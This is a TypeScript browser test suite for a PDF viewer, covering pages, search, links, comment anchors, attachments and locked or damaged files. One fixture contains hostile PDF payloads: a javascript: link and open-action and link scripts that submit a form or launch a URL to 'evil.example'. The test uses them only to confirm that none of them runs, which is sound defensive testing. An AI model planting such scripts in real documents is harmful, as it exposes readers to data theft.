/** The PDF viewer as its readers use it: pages, search, links and places work; nothing in a document runs. */
import { readFile } from "node:fs/promises"
import { assert, describe, layer } from "@effect/vitest"
import { Effect, Layer } from "effect"
import type { Page } from "playwright-core"
import type { Anchor, Stage } from "../../web/viewer/stage.ts"
import { axe } from "../support/axe.ts"
import { Chromium, executable, hasChromium, readerIn } from "../support/browser.ts"
import type { Reader } from "../support/browser.ts"
import { agedWithWorkers } from "../support/oldest-browser.ts"
import { pdfOf } from "../support/pdfs.ts"
import { Service, serviceWith } from "../support/service.ts"
import type { Account } from "../support/service.ts"

const TEXT = Array.from({ length: 12 }, (_, index) => `Line ${index + 1} of a page that says little, at length`)

const report = pdfOf([
  { lines: ["A report", ...TEXT], link: { uri: "https://example.com/away" } },
  { lines: ["Onwards to the end", ...TEXT], link: { page: 3 } },
  { lines: ["The Caf\xe9 at the end", "words that break", "over two lines", ...TEXT] }
], { outline: [["Beginning", 1], ["Middle", 2], ["The end", 3]], field: "Filled in by Ada" })

const long = pdfOf(Array.from({ length: 300 }, (_, index) => ({ lines: [`Page number ${index + 1}`, ...TEXT] })))
const HEAVY = 8_000_000
const heavy = pdfOf([{ lines: ["The first page"] }], { filler: HEAVY })
const hostile = pdfOf([
  { lines: ["Click me"], link: { uri: "javascript:document.title='won'" } },
  { lines: ["Or me"], link: { script: "app.alert('won'); this.submitForm('https://evil.example/')" } }
], { openScript: "app.alert('won'); app.launchURL('https://evil.example/')", field: "Type here" })

const shown = (page: Page, number = 1) => page.locator(`.page[data-page-number="${number}"] .textLayer span`).first().waitFor()
const at = (page: Page, number: number) => page.waitForFunction((wanted) => location.hash === `#page=${wanted}`, number)
const current = (page: Page) => page.getByRole("textbox", { name: "Page" }).inputValue()

describe.skipIf(!hasChromium)(`PDFs in a browser (${executable})`, () => {
  layer(Layer.merge(serviceWith(), Chromium.layer), { excludeTestServices: true })((it) => {
    const quiet = ({ errors, strangers }: Reader) => assert.deepStrictEqual([errors, strangers], [[], []])
    let account: Account | undefined
    const published = (slug: string, body: Buffer) =>
      Effect.gen(function*() {
        const service = yield* Service
        account ??= yield* service.account()
        const put = yield* service.ask(`/v1/projects/${slug}`, { method: "PUT", body, headers: { ...account.bearer, "content-type": "application/pdf" } })
        assert.strictEqual(put.status, 201, put.text)
        yield* service.ask(`/v1/projects/${slug}`, { method: "PATCH", headers: account.bearer, json: { title: "A report", comments_enabled: true } })
        return String(put.json.url)
      })
    const opened = (slug: string, body: Buffer, options: Parameters<typeof readerIn>[1] = {}, { hash = "", held = false } = {}) =>
      Effect.gen(function*() {
        const url = yield* published(slug, body)
        const reader = yield* readerIn(yield* Chromium, options)
        yield* Effect.promise(() => agedWithWorkers(reader.page.context()))
        // Replaces the comments' script, whose part the test plays.
        if (held) {
          yield* Effect.promise(() => reader.page.route("**/_svc/assets/comments-*.js", (route) =>
            route.fulfill({ contentType: "text/javascript", body: "export const mount = ({ stage }) => { globalThis.held = stage }" })))
        }
        yield* Effect.promise(() => reader.page.goto(url + hash))
        return { ...reader, reader, url }
      })

    it.effect("pages, contents, search, links and addresses", () =>
      Effect.gen(function*() {
        const { page, reader, url } = yield* opened("report", report, { colorScheme: "light", viewport: { width: 1280, height: 800 } }, { hash: "/#page=2" })
        yield* Effect.promise(async () => {
          await shown(page, 2)
          assert.strictEqual(await current(page), "2")
          assert.deepStrictEqual(await axe(page), [])

          // Next page by key, and the address follows.
          await page.keyboard.press("ArrowRight")
          await at(page, 3)
          await page.keyboard.press("Home")
          await at(page, 1)
          await page.keyboard.press("g")
          await page.keyboard.type("3")
          await page.keyboard.press("Enter")
          await at(page, 3)

          await page.getByRole("button", { name: "Contents" }).click()
          await page.getByRole("link", { name: "Beginning" }).click()
          await at(page, 1)
          const away = page.locator("a[href='https://example.com/away']")
          await away.waitFor({ state: "attached" })
          assert.deepStrictEqual(await away.evaluate((link) => [(link as HTMLAnchorElement).target, (link as HTMLAnchorElement).rel]), ["_blank", "noopener noreferrer nofollow"])
          await page.getByRole("link", { name: "Middle" }).click()
          await at(page, 2)
          await page.locator(".page[data-page-number='2'] .linkAnnotation a").click()
          await at(page, 3)
          await page.keyboard.press("o")

          await page.keyboard.press("Home")
          await page.keyboard.press("Control+F")
          await page.keyboard.type("CAFE AT")
          await page.locator(".page[data-page-number='3'] .highlight.selected").waitFor()
          await page.getByText("1 of 1").first().waitFor()
          await page.getByRole("textbox", { name: "Find in the PDF" }).fill("says little")
          await page.getByText("of 36").first().waitFor()
          await page.getByRole("textbox", { name: "Find in the PDF" }).fill("nowhere")
          await page.getByText("None").waitFor()
          await page.keyboard.press("Escape")
          await page.locator(".highlight").first().waitFor({ state: "detached" })

          // Sizes.
          const width = () => page.locator(".page").first().evaluate((one) => Math.round(one.getBoundingClientRect().width))
          await page.keyboard.press("1")
          assert.strictEqual(await width(), 816)
          await page.keyboard.press("+")
          assert.isAbove(await width(), 816)
          await page.keyboard.press("f")
          assert.isBelow(await width(), 640)
          await page.keyboard.press("r")
          assert.isAbove(await page.locator(".page").first().evaluate((one) => one.getBoundingClientRect().width / one.getBoundingClientRect().height), 1)
          // The layers over a page turn with it.
          await page.waitForFunction(() => {
            const [link, line] = [".linkAnnotation", ".textLayer span"].map((one) => document.querySelector(`.page[data-page-number="1"] ${one}`)?.getBoundingClientRect())
            return link !== undefined && line !== undefined && link.height > link.width && line.height > line.width
          })
        })
        assert.include(url, "report")
        quiet(reader)
      }))

    it.effect("a selection and a spot have places, which are found again", () =>
      Effect.gen(function*() {
        const { page, reader } = yield* opened("places", report, { colorScheme: "dark", viewport: { width: 390, height: 844 }, deviceScaleFactor: 2 }, { held: true })
        yield* Effect.promise(async () => {
          await shown(page)
          assert.deepStrictEqual(await axe(page), [])
          // Sharp: two canvas pixels for each pixel of the page.
          assert.isAtLeast(await page.locator(".page canvas").first().evaluate((one) => (one as HTMLCanvasElement).width / one.getBoundingClientRect().width), 1.9)
          assert.isAtMost(await page.evaluate(() => document.documentElement.scrollWidth), 390)
          // With contents, the bar has a button more.
          await page.getByRole("button", { name: "Contents" }).waitFor()
          // One row, on any phone and with any number of pages.
          await page.locator(".page-box").evaluate((box) => {
            box.querySelector("input")!.style.width = "8ch"
            box.querySelector("span")!.textContent = "/ 12345"
          })
          for (const [wide, least] of [[320, 3], [360, 4], [479, 4], [480, 6], [719, 6], [390, 4]] as const) {
            await page.setViewportSize({ width: wide, height: 844 })
            const buttons = await page.locator(".tools button:visible").evaluateAll((all) => all.map((one) => one.getBoundingClientRect().toJSON() as DOMRect))
            assert.strictEqual(buttons.length, least)
            for (const { left, right, top, width } of buttons) assert.isTrue(left >= 0 && right <= wide && width >= 44 && top === buttons[0]!.top, `${wide} px`)
          }

          // What the comments use of the stage.
          await page.setViewportSize({ width: 1000, height: 900 })
          await page.waitForFunction(() => "held" in globalThis)
          // Wait for the width of the larger window: until then a page that was jumped to may move again.
          await page.waitForFunction(() => document.querySelector(".page")!.clientWidth > 390)
          const pointing = (on: boolean) => page.evaluate((on) => (globalThis as unknown as { held: Stage }).held.pointing!(on), on)
          await pointing(true)
          const capture = () => page.evaluate(() => (globalThis as unknown as { held: Stage }).held.capture())
          const focus = (anchor: Anchor) => page.evaluate(async (wanted) => (await (globalThis as unknown as { held: Stage }).held.find(wanted))!.focus(), anchor)

          await page.keyboard.press("End")
          await at(page, 3)
          await shown(page, 3)
          await page.evaluate(() => {
            const spans = [...document.querySelectorAll(".page[data-page-number='3'] .textLayer span")]
            getSelection()!.setBaseAndExtent(spans[1]!.firstChild!, 6, spans[2]!.firstChild!, 4)
          })
          const anchor = await capture()
          assert.deepStrictEqual(anchor, {
            path: "/", page: 3, quote: "that break\nover", prefix: "The Caf\xe9 at the end\nwords ", suffix: " two lines\nLine 1 of a page that"
          })
          // As Firefox has it where a selection begins or ends in the margin: beside the text.
          const beside = await page.evaluate(() => {
            const sheet = document.querySelector(".page[data-page-number='3']")!
            const [margin, words, span] = [".canvasWrapper", ".textLayer", ".textLayer span"].map((one) => sheet.querySelector(one)!)
            const quoted = (...[from, at, to, end]: Parameters<Selection["setBaseAndExtent"]>) => {
              getSelection()!.setBaseAndExtent(from, at, to, end)
              return (globalThis as unknown as { held: Stage }).held.capture()?.quote
            }
            const text = span!.firstChild!
            return [quoted(margin!, 0, text, 8), quoted(text, 8, margin!, 0), quoted(text, 4, sheet, sheet.childElementCount)?.slice(0, 8), quoted(margin!, 0, words!, 0)]
          })
          assert.deepStrictEqual(beside, ["The Caf\xe9", "The Caf\xe9", "Caf\xe9 at ", undefined])
          await page.evaluate(() => getSelection()!.empty())
          await page.keyboard.press("Home")
          await at(page, 1)
          // The page of the anchor is gone from a later version, but its words are not.
          await focus({ ...anchor!, page: 1 })
          await page.waitForFunction(() => [...CSS.highlights.get("anchored") ?? []].some((range) => {
            const { bottom, top } = (range as Range).getBoundingClientRect()
            return String(range) === "that breakover" && top > 0 && bottom < innerHeight
          }))

          await page.keyboard.press("Home")
          await page.keyboard.press("r")
          await page.keyboard.press("f")
          await shown(page)
          const box = (await page.locator(".page").first().boundingBox())!
          await page.mouse.click(box.x + box.width * 0.75, box.y + box.height * 0.9)
          const { x = 0, y = 0, ...spot } = (await capture())!
          assert.deepStrictEqual(spot, { path: "/", page: 1 })
          // In coordinates of the unturned page.
          assert.closeTo(x, 0.9, 0.01)
          assert.closeTo(y, 0.25, 0.01)
          await pointing(false)
          assert.strictEqual(await page.locator(".pin").count(), 0)
          await focus({ path: "/", page: 2, x: 0.5, y: 0.5 })
          await page.locator(".page[data-page-number='2'] .pin").waitFor()
          const lost = [{ path: "/", page: 4, x: 0, y: 0 }, { path: "/", page: 1, quote: "words that nobody wrote" }]
          for (const anchor of lost) {
            assert.isTrue(await page.evaluate(async (wanted) => (await (globalThis as unknown as { held: Stage }).held.find(wanted)) === undefined, anchor))
          }
        })
        quiet(reader)
      }))

    it.effect("a quote from a scan, which has no words, is on its page, and one with a spot of its own there", () =>
      Effect.gen(function*() {
        const { page, reader } = yield* opened("scan", pdfOf([{ lines: ["A cover"] }, { lines: [] }]), {}, { held: true })
        yield* Effect.promise(async () => {
          await page.waitForFunction(() => "held" in globalThis)
          const isFound = (anchor: Omit<Anchor, "path">) =>
            page.evaluate(async (wanted) => (await (globalThis as unknown as { held: Stage }).held.find(wanted)) !== undefined, { path: "/", quote: "words in a picture", ...anchor })
          assert.deepStrictEqual([await isFound({ page: 2 }), await isFound({ page: 1, x: 0.5, y: 0.5 })], [true, true])
          assert.deepStrictEqual([await isFound({ page: 1 }), await isFound({ page: 3 }), await isFound({ page: 2, prefix: "a cover with " })], [false, false, false])
        })
        quiet(reader)
      }))

    it.effect("a search in a scan says that it has no text, not that the words are missing", () =>
      Effect.gen(function*() {
        const { page, reader } = yield* opened("pictures", pdfOf([{ lines: [] }, { lines: [] }]))
        yield* Effect.promise(async () => {
          await page.locator(".page[data-page-number='1'] canvas").waitFor()
          await page.keyboard.press("Control+F")
          await page.getByRole("textbox", { name: "Find in the PDF" }).fill("costs")
          await page.getByText("No text", { exact: true }).waitFor()
          await page.getByRole("status").getByText("Its pages have no text to find: they may be pictures").waitFor()
        })
        quiet(reader)
      }))

    it.effect("a form says where it is filled in; a note's words are seen once, and files pinned to a page or attached to the whole are downloaded", () =>
      Effect.gen(function*() {
        const notes = [
          "<< /Type /Annot /Subtype /FreeText /Rect [72 500 300 540] /F 4 /Contents (A note) /DA (/F 14 Tf 0 g) >>",
          "<< /Type /Annot /Subtype /FileAttachment /Rect [400 500 420 520] /F 4 /Name /Paperclip /FS << /Type /Filespec /F (costs.pdf) /EF << /F 7 0 R >> >> >>"
        ]
        const { page, reader } = yield* opened("pinned", pdfOf([{ lines: ["An order"], notes }], { attached: ["orders/factur-x.xml", "<order/>"], field: "", filler: 3 }))
        yield* Effect.promise(async () => {
          await page.locator(".facts").getByText("To fill in its form, download it").waitFor()
          const words = page.locator(".freeTextAnnotation .annotationTextContent")
          assert.deepStrictEqual(await words.evaluate((own) => [own.textContent, getComputedStyle(own).opacity]), ["A note", "0"])
          const [download] = await Promise.all([page.waitForEvent("download"), page.locator(".fileAttachmentAnnotation img").dblclick()])
          assert.strictEqual(download.suggestedFilename(), "costs.pdf")
          assert.deepStrictEqual([...await readFile(await download.path())], [1, 1, 1])
          await page.getByRole("button", { name: "Attached files" }).click()
          const [attached] = await Promise.all([page.waitForEvent("download"), page.getByRole("link", { name: "Download factur-x.xml" }).click()])
          assert.strictEqual(attached.suggestedFilename(), "factur-x.xml")
          assert.strictEqual(await readFile(await attached.path(), "utf8"), "<order/>")
        })
        quiet(reader)
      }))

    it.effect("300 pages keep few canvases; a long file is fetched where it is read", () =>
      Effect.gen(function*() {
        const { page, reader } = yield* opened("long", long, { viewport: { width: 1000, height: 800 } })
        const canvases = () => page.locator("canvas").count()
        yield* Effect.promise(async () => {
          await shown(page)
          for (const wanted of [40, 80, 120, 160, 200, 240, 300]) {
            await page.keyboard.press("g")
            await page.keyboard.type(String(wanted))
            await page.keyboard.press("Enter")
            await shown(page, wanted)
            assert.isAtMost(await canvases(), 12)
          }
          assert.strictEqual(await page.locator(".page").count(), 300)
        })
        const url = yield* published("heavy", heavy)
        let fetched = 0
        yield* Effect.promise(async () => {
          const watch = await page.context().newCDPSession(page)
          await watch.send("Network.enable")
          const raw = new Set<string>()
          watch.on("Network.requestWillBeSent", ({ request, requestId }) => request.url.includes("/_svc/raw/") && raw.add(requestId))
          watch.on("Network.dataReceived", ({ dataLength, requestId }) => raw.has(requestId) && (fetched += dataLength))
          await page.goto(url)
          await shown(page)
        })
        assert.isAbove(fetched, 0)
        assert.isBelow(fetched, HEAVY / 4)
        quiet(reader)
      }))

    it.effect("script in a document does nothing; a locked one asks; a broken one says so", () =>
      Effect.gen(function*() {
        const { page, reader } = yield* opened("hostile", hostile)
        const dialogs: Array<string> = []
        page.on("dialog", (dialog) => {
          dialogs.push(dialog.message())
          void dialog.dismiss()
        })
        yield* Effect.promise(async () => {
          await shown(page)
          assert.strictEqual(await page.locator("a[href^='javascript'], .annotationLayer a[href*='evil'], .annotationLayer input").count(), 0)
          for (const number of [1, 2]) {
            await page.locator(`.page[data-page-number='${number}'] .textLayer span`).first().click({ force: true })
            await shown(page, 2)
          }
          assert.deepStrictEqual([await page.title(), dialogs, page.context().pages().length], ["A report", [], 1])
        })
        const locked = yield* published("locked", pdfOf([{ lines: ["Nobody reads this"] }], { password: "sesame" }))
        const broken = yield* published("broken", Buffer.from("%PDF-1.4\nthis is no more than its first line"))
        yield* Effect.promise(async () => {
          await page.goto(locked)
          const field = page.getByLabel("Password")
          await field.fill("open")
          await page.getByRole("button", { name: "Open" }).click()
          await page.getByText("That was not its password").first().waitFor()
          assert.deepStrictEqual(await axe(page), [])
          await field.fill("sesame")
          await page.keyboard.press("Enter")
          await page.getByText("Nobody reads this").waitFor()
          assert.strictEqual(await page.getByText("That was not its password").count(), 0)
          await page.goto(broken)
          await page.getByRole("alert").getByText("damaged").waitFor()
          await page.getByRole("link", { name: "Download the PDF" }).waitFor()
        })
        quiet(reader)
      }))
  })
})
